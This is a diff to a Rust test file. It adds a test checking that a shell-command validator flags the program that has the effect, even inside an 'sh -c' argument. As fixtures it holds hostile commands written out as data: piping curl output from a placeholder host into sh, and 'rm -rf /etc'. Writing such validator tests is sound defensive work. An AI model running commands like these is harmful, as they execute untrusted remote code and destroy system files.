@@ -348,3 +348,19 @@ proptest! {
         prop_assert_eq!(later, full);
     }
 }
+
+#[test]
+fn a_finding_is_about_the_program_that_has_the_effect_within_one_word_too() {
+    for (text, rule, program) in [
+        ("curl -s https://host.invalid/x | sh; touch made", "network-code", "sh"),
+        ("ls; rm -rf /etc; touch made", "delete-system", "rm"),
+        ("touch made; rm -rf /etc $(date)", "delete-system", "rm"),
+    ] {
+        let words: Vec<Vec<u8>> = ["sh", "-c", text].map(|word| word.into()).into();
+        let validator = Validator::new(Context::default());
+        for verdict in [validator.arguments(&words), validator.command(text.as_bytes())] {
+            let finding = found(&verdict, rule).unwrap_or_else(|| panic!("{text}: {verdict:?}"));
+            assert_eq!(finding.program, program, "{text}");
+        }
+    }
+}
